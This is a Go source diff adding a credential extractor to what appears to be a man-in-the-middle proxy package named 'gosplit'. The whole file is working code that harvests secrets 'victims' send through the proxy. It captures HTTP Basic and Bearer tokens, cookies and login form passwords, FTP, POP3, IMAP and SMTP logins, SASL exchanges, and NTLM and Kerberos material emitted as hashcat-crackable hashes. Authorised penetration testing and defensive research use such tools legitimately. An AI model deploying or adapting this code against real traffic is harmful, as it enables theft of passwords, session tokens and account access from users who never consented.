@@ -0,0 +1,486 @@
+package gosplit
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"io"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"sync"
+)
+
+// Protocols reported in Credential.Protocol.
+const (
+	CredHTTP     = "http"
+	CredFTP      = "ftp"
+	CredSMTP     = "smtp"
+	CredIMAP     = "imap"
+	CredPOP3     = "pop3"
+	CredLDAP     = "ldap"
+	CredNTLM     = "ntlm"
+	CredKerberos = "kerberos"
+)
+
+const (
+	// maxCredBuffer is the number of bytes buffered for each side of a
+	// connection while waiting for a complete message. Parsing of a side
+	// stops once exceeded.
+	maxCredBuffer = 1 << 20
+	// maxCredStreams is the number of connections tracked by a
+	// CredExtractor. The oldest are discarded first.
+	maxCredStreams = 10000
+	// maxCredLine is the length of the longest line parsed for commands
+	// of line based protocols.
+	maxCredLine = 8192
+)
+
+// stream protocols detected from the first data sent by victims
+const (
+	textStream = iota
+	httpStream
+	ldapStream
+	kerberosStream
+	unknownStream
+)
+
+var (
+	httpRequestLine = regexp.MustCompile(`^[A-Z]+ \S+ HTTP/1\.[01]\r?\n`)
+	imapTagged      = regexp.MustCompile(`^\S+ (?i:LOGIN|AUTHENTICATE|CAPABILITY|STARTTLS)\b`)
+
+	// commands of line based protocols that aren't imap tags
+	lineCommands = map[string]bool{"USER": true, "PASS": true, "AUTH": true, "EHLO": true, "HELO": true}
+
+	// form and json keys containing usernames and passwords
+	userKeys = []string{"user", "username", "user_name", "login", "email", "uname", "userid", "user_id",
+		"j_username", "log", "name"}
+	passKeys = []string{"password", "passwd", "pass", "pwd", "passw", "j_password", "secret", "pin"}
+)
+
+type (
+	// Credential is a secret extracted from cleartext data sent through
+	// the proxy.
+	Credential struct {
+		// Protocol the credential was sent over, e.g., CredHTTP.
+		Protocol string `json:"protocol"`
+		// Type of credential, e.g., "basic" or "netntlmv2".
+		Type     string `json:"type"`
+		Username string `json:"username,omitempty"`
+		Domain   string `json:"domain,omitempty"`
+		Password string `json:"password,omitempty"`
+		// Token is a bearer token or cookie.
+		Token string `json:"token,omitempty"`
+		// Hash is a crackable form of the credential in hashcat's format.
+		Hash string `json:"hash,omitempty"`
+		// Extra contains protocol specific details, e.g., the URL that
+		// an HTTP form was posted to.
+		Extra    map[string]string `json:"extra,omitempty"`
+		ConnInfo `json:"conn_info"`
+	}
+
+	// CredExtractor is a DataReceiver that extracts credentials from
+	// common cleartext protocols, passing each to a function.
+	//
+	// Supported protocols include HTTP (Basic and Bearer authorization,
+	// cookies, and form posts), FTP, SMTP, IMAP, and POP3 logins and SASL
+	// PLAIN/LOGIN exchanges, LDAP simple binds, NTLMSSP authentication
+	// carried by any protocol, and Kerberos AS-REQ pre-authentication.
+	//
+	// RecvConnEnd must be called as connections end to release the state
+	// kept for them. Use NewCredExtractor to initialize.
+	CredExtractor struct {
+		recv    func(Credential)
+		m       sync.Mutex
+		streams *connTable[*credStream]
+	}
+
+	// credStream is the state of a connection observed by a CredExtractor.
+	credStream struct {
+		cI        ConnInfo
+		kind      int    // kind of stream, e.g., httpStream, decided by the first victim data
+		victim    []byte // unparsed victim data
+		greeted   bool   // the downstream sent data
+		textProto string // protocol of a text stream, when known
+		user      string // username sent by USER, awaiting PASS
+		sasl      string // step of a SASL exchange awaiting a victim response
+		saslProto string // protocol of the SASL exchange
+		saslUser  string // username sent during a SASL LOGIN exchange
+		challenge []byte // last NTLM server challenge
+		seen      map[string]bool
+	}
+)
+
+// NewCredExtractor initializes a CredExtractor that passes credentials
+// to recv. recv may be called concurrently for different connections.
+func NewCredExtractor(recv func(Credential)) *CredExtractor {
+	return &CredExtractor{recv: recv, streams: newConnTable[*credStream](maxCredStreams)}
+}
+
+func (e *CredExtractor) RecvVictimData(cI ConnInfo, b []byte) {
+	e.m.Lock()
+	s := e.stream(cI)
+	creds := s.addVictim(b)
+	e.m.Unlock()
+	e.emit(creds)
+}
+
+func (e *CredExtractor) RecvDownstreamData(cI ConnInfo, b []byte) {
+	e.m.Lock()
+	creds := e.stream(cI).addDownstream(b)
+	e.m.Unlock()
+	e.emit(creds)
+}
+
+// RecvConnStart implements ConnInfoReceiver.
+func (e *CredExtractor) RecvConnStart(ConnInfo) {}
+
+// RecvConnEnd releases the state kept for the connection.
+func (e *CredExtractor) RecvConnEnd(cI ConnInfo) {
+	e.m.Lock()
+	defer e.m.Unlock()
+	e.streams.remove(cI.ID)
+}
+
+func (e *CredExtractor) emit(creds []Credential) {
+	for _, c := range creds {
+		e.recv(c)
+	}
+}
+
+// stream returns the state of the connection, creating it when needed.
+//
+// Note: e.m must be held by the caller.
+func (e *CredExtractor) stream(cI ConnInfo) *credStream {
+	if s, ok := e.streams.get(cI.ID); ok {
+		return s
+	}
+	s := &credStream{cI: cI, kind: -1, seen: make(map[string]bool)}
+	e.streams.add(cI.ID, s)
+	return s
+}
+
+// cred initializes a Credential for the stream, returning false when an
+// identical credential was already extracted from it.
+func (s *credStream) cred(c Credential) (Credential, bool) {
+	key := strings.Join([]string{c.Protocol, c.Type, c.Username, c.Domain, c.Password, c.Token, c.Hash}, "\x00")
+	if s.seen[key] {
+		return c, false
+	}
+	s.seen[key] = true
+	c.ConnInfo = s.cI
+	return c, true
+}
+
+// add appends the credential to creds unless it was already extracted.
+func (s *credStream) add(creds []Credential, c Credential) []Credential {
+	if c, ok := s.cred(c); ok {
+		creds = append(creds, c)
+	}
+	return creds
+}
+
+// addVictim parses data sent by the victim.
+func (s *credStream) addVictim(b []byte) (creds []Credential) {
+	creds = s.scanNTLM(creds, b)
+	if s.kind == unknownStream || len(s.victim)+len(b) > maxCredBuffer {
+		s.kind, s.victim = unknownStream, nil
+		return
+	}
+	s.victim = append(s.victim, b...)
+	if s.kind < 0 {
+		s.kind = detectStream(s.victim)
+	}
+	switch s.kind {
+	case textStream:
+		creds = s.parseLines(creds)
+	case httpStream:
+		creds = s.parseHTTP(creds)
+	case ldapStream:
+		creds = s.parseLDAP(creds)
+	case kerberosStream:
+		creds = s.parseKerberos(creds)
+	}
+	return
+}
+
+// addDownstream parses data sent by the downstream, which identifies
+// text protocols by their greetings and carries NTLM challenges.
+func (s *credStream) addDownstream(b []byte) (creds []Credential) {
+	creds = s.scanNTLM(creds, b)
+	if !s.greeted {
+		s.greeted = true
+		greeting := strings.ToUpper(string(b[:min(len(b), 512)]))
+		switch {
+		case strings.HasPrefix(greeting, "+OK"):
+			s.textProto = CredPOP3
+		case strings.HasPrefix(greeting, "* OK"):
+			s.textProto = CredIMAP
+		case strings.HasPrefix(greeting, "220") && strings.Contains(greeting, "FTP"):
+			s.textProto = CredFTP
+		case strings.HasPrefix(greeting, "220") && strings.Contains(greeting, "SMTP"):
+			s.textProto = CredSMTP
+		}
+	}
+	return
+}
+
+// detectStream determines the kind of stream from the first data sent
+// by the victim.
+func detectStream(b []byte) int {
+	switch {
+	case len(b) >= 5 && b[4] == krbASReqTag:
+		// kerberos over tcp is prefixed by the message length
+		return kerberosStream
+	case len(b) > 0 && b[0] == berSequence:
+		return ldapStream
+	case httpRequestLine.Match(b[:min(len(b), 8192)]):
+		return httpStream
+	}
+	return textStream
+}
+
+// parseLines parses complete lines of line based protocols, e.g., FTP.
+func (s *credStream) parseLines(creds []Credential) []Credential {
+	for {
+		i := bytes.IndexByte(s.victim, '\n')
+		if i < 0 {
+			if len(s.victim) > maxCredLine {
+				s.victim = nil
+			}
+			return creds
+		}
+		line := strings.TrimRight(string(s.victim[:i]), "\r")
+		s.victim = s.victim[i+1:]
+		if len(line) <= maxCredLine {
+			// sasl ntlm messages are base64 encoded lines, which may have
+			// been split across reads
+			creds = s.scanNTLM(creds, []byte(line))
+			creds = s.parseLine(creds, line)
+		}
+	}
+}
+
+// parseLine parses a command sent by the victim of a line based protocol.
+func (s *credStream) parseLine(creds []Credential, line string) []Credential {
+	if s.sasl != "" {
+		return s.parseSASL(creds, line)
+	}
+
+	fields := strings.Fields(line)
+	if len(fields) == 0 {
+		return creds
+	}
+	cmd, args := strings.ToUpper(fields[0]), fields[1:]
+	if !lineCommands[cmd] && imapTagged.MatchString(line) {
+		// tagged imap commands, e.g., "a1 LOGIN user pass"
+		s.textProto = CredIMAP
+		cmd, args = strings.ToUpper(fields[1]), fields[2:]
+	}
+
+	switch cmd {
+	case "EHLO", "HELO":
+		s.textProto = CredSMTP
+	case "USER":
+		if len(args) > 0 {
+			s.user = strings.Join(args, " ")
+		}
+	case "PASS":
+		if len(args) == 0 {
+			break
+		}
+		proto := s.textProto
+		if proto == "" || proto == CredSMTP || proto == CredIMAP {
+			proto = CredFTP
+		}
+		creds = s.add(creds, Credential{Protocol: proto, Type: "plain", Username: s.user,
+			Password: strings.TrimPrefix(line, fields[0]+" ")})
+	case "LOGIN":
+		// imap: <tag> LOGIN <user> <pass>, either of which may be quoted
+		if parts := strings.SplitN(line, " ", 3); s.textProto == CredIMAP && len(parts) == 3 {
+			if parts = imapStrings(parts[2]); len(parts) == 2 {
+				creds = s.add(creds, Credential{Protocol: CredIMAP, Type: "plain", Username: parts[0], Password: parts[1]})
+			}
+		}
+	case "AUTH", "AUTHENTICATE":
+		if len(args) == 0 {
+			break
+		}
+		s.saslProto = s.textProto
+		if s.saslProto == "" {
+			s.saslProto = CredSMTP
+			if cmd == "AUTHENTICATE" {
+				s.saslProto = CredIMAP
+			}
+		}
+		switch mech := strings.ToUpper(args[0]); {
+		case mech == "PLAIN" && len(args) > 1:
+			creds = s.saslPlain(creds, args[1])
+		case mech == "PLAIN":
+			s.sasl = "plain"
+		case mech == "LOGIN" && len(args) > 1:
+			s.saslUser, s.sasl = decodeBase64(args[1]), "login-pass"
+		case mech == "LOGIN":
+			s.sasl = "login-user"
+		}
+	}
+	return creds
+}
+
+// parseSASL parses a victim response during a SASL exchange.
+func (s *credStream) parseSASL(creds []Credential, line string) []Credential {
+	step := s.sasl
+	s.sasl = ""
+	if line == "*" {
+		// cancelled
+		return creds
+	}
+	switch step {
+	case "plain":
+		creds = s.saslPlain(creds, line)
+	case "login-user":
+		s.saslUser, s.sasl = decodeBase64(line), "login-pass"
+	case "login-pass":
+		creds = s.add(creds, Credential{Protocol: s.saslProto, Type: "login", Username: s.saslUser,
+			Password: decodeBase64(line)})
+	}
+	return creds
+}
+
+// saslPlain extracts the credentials from a SASL PLAIN response.
+func (s *credStream) saslPlain(creds []Credential, resp string) []Credential {
+	if parts := strings.Split(decodeBase64(resp), "\x00"); len(parts) == 3 {
+		c := Credential{Protocol: s.saslProto, Type: "plain", Username: parts[1], Password: parts[2]}
+		if parts[0] != "" && parts[0] != parts[1] {
+			c.Extra = map[string]string{"authzid": parts[0]}
+		}
+		creds = s.add(creds, c)
+	}
+	return creds
+}
+
+// parseHTTP parses complete requests sent by the victim.
+func (s *credStream) parseHTTP(creds []Credential) []Credential {
+	for len(s.victim) > 0 {
+		r := bytes.NewReader(s.victim)
+		br := bufio.NewReader(r)
+		req, err := http.ReadRequest(br)
+		var body []byte
+		if err == nil {
+			body, err = io.ReadAll(io.LimitReader(req.Body, maxCredBuffer))
+		}
+		if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
+			// incomplete
+			return creds
+		} else if err != nil {
+			s.kind, s.victim = unknownStream, nil
+			return creds
+		}
+		s.victim = s.victim[len(s.victim)-r.Len()-br.Buffered():]
+		creds = s.parseRequest(creds, req, body)
+	}
+	return creds
+}
+
+// parseRequest extracts credentials from the headers and body of an
+// HTTP request.
+func (s *credStream) parseRequest(creds []Credential, req *http.Request, body []byte) []Credential {
+	u := req.Host + req.URL.RequestURI()
+	extra := func() map[string]string {
+		return map[string]string{"method": req.Method, "url": u}
+	}
+
+	for _, h := range []string{"Authorization", "Proxy-Authorization"} {
+		for _, v := range req.Header.Values(h) {
+			scheme, param, _ := strings.Cut(v, " ")
+			switch strings.ToLower(scheme) {
+			case "basic":
+				if user, pass, ok := strings.Cut(decodeBase64(param), ":"); ok {
+					creds = s.add(creds, Credential{Protocol: CredHTTP, Type: "basic", Username: user,
+						Password: pass, Extra: extra()})
+				}
+			case "bearer":
+				creds = s.add(creds, Credential{Protocol: CredHTTP, Type: "bearer", Token: param, Extra: extra()})
+			case "ntlm", "negotiate":
+				// spnego tokens may wrap ntlm messages, and the raw scan of
+				// victim data misses messages split across reads
+				creds = s.scanNTLM(creds, []byte(decodeBase64(param)))
+			}
+		}
+	}
+	for _, v := range req.Header.Values("Cookie") {
+		creds = s.add(creds, Credential{Protocol: CredHTTP, Type: "cookie", Token: v, Extra: extra()})
+	}
+
+	if len(body) == 0 {
+		return creds
+	}
+	values := make(map[string]string)
+	switch ct := strings.ToLower(req.Header.Get("Content-Type")); {
+	case strings.HasPrefix(ct, "application/x-www-form-urlencoded"):
+		if form, err := url.ParseQuery(string(body)); err == nil {
+			for k := range form {
+				values[strings.ToLower(k)] = form.Get(k)
+			}
+		}
+	case strings.HasPrefix(ct, "application/json"):
+		var obj map[string]any
+		if json.Unmarshal(body, &obj) == nil {
+			for k, v := range obj {
+				if str, ok := v.(string); ok {
+					values[strings.ToLower(k)] = str
+				}
+			}
+		}
+	}
+	if pass, ok := firstValue(values, passKeys); ok {
+		user, _ := firstValue(values, userKeys)
+		creds = s.add(creds, Credential{Protocol: CredHTTP, Type: "form", Username: user, Password: pass, Extra: extra()})
+	}
+	return creds
+}
+
+// firstValue returns the value of the first key present in values.
+func firstValue(values map[string]string, keys []string) (string, bool) {
+	for _, k := range keys {
+		if v, ok := values[k]; ok {
+			return v, true
+		}
+	}
+	return "", false
+}
+
+// decodeBase64 decodes s, returning an empty string when it isn't
+// valid base64.
+func decodeBase64(s string) string {
+	b, err := base64.StdEncoding.DecodeString(strings.TrimSpace(s))
+	if err != nil {
+		return ""
+	}
+	return string(b)
+}
+
+// imapStrings splits the arguments of an IMAP command into atoms and
+// quoted strings.
+func imapStrings(s string) (parts []string) {
+	for s = strings.TrimSpace(s); s != ""; s = strings.TrimSpace(s) {
+		if s[0] != '"' {
+			atom, rest, _ := strings.Cut(s, " ")
+			parts, s = append(parts, atom), rest
+			continue
+		}
+		var b strings.Builder
+		i := 1
+		for ; i < len(s) && s[i] != '"'; i++ {
+			if s[i] == '\\' && i+1 < len(s) {
+				i++
+			}
+			b.WriteByte(s[i])
+		}
+		parts, s = append(parts, b.String()), s[min(i+1, len(s)):]
+	}
+	return
+}